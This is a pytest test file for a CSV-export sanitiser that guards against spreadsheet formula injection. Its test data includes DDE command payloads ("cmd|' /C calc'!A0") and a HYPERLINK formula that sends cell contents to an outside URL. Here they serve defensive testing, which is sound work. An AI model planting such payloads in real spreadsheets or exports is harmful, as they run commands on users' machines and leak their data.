"""No cell of an exported table can be taken for a formula, and nothing in it is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seenheard.practice.web.safe_cells import BYTE_ORDER_MARK, safe_cell, table_lines

DANGEROUS = "=+-@\t\r\n＝＋－＠"


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("http://example.org/?" & A1, "Open")',
        "+44 7700 900123",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_what_could_be_a_formula_gets_an_apostrophe_and_keeps_its_words(words: str) -> None:
    assert safe_cell(words) == f"'{words}"


@pytest.mark.parametrize("words", ["Ada Lockspur", "4 June 2026", "12", "a=b", "O'Neill", 'said "=no"', ""])
def test_other_words_stay_as_they_are(words: str) -> None:
    assert safe_cell(words) == words


def test_numbers_stay_numbers_and_nothing_stays_nothing() -> None:
    assert (safe_cell(-3), safe_cell(0), safe_cell(None)) == ("-3", "0", "")


def test_a_cell_cannot_break_out_into_the_next() -> None:
    """A separator or a quotation mark in a cell would otherwise begin a new cell with its own formula."""
    text = "".join(table_lines(["a", "b"], [['x","=1+1', "y;=1+1\n=2"]]))
    rows = list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))
    assert rows == [["a", "b"], ['x","=1+1', "y;=1+1\n=2"]]
    assert text.startswith(BYTE_ORDER_MARK + '"a","b"\r\n')


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1, max_size=4))
def test_any_row_comes_back_whole_and_harmless(row: list[str]) -> None:
    text = "".join(table_lines(["heading"], [row])).removeprefix(BYTE_ORDER_MARK)
    _, back = csv.reader(io.StringIO(text, newline=""))
    assert [cell.removeprefix("'") if safe != cell else cell for cell, safe in zip(back, row, strict=True)] == row
    assert not any(cell.lstrip().startswith(tuple(DANGEROUS)) for cell in back)
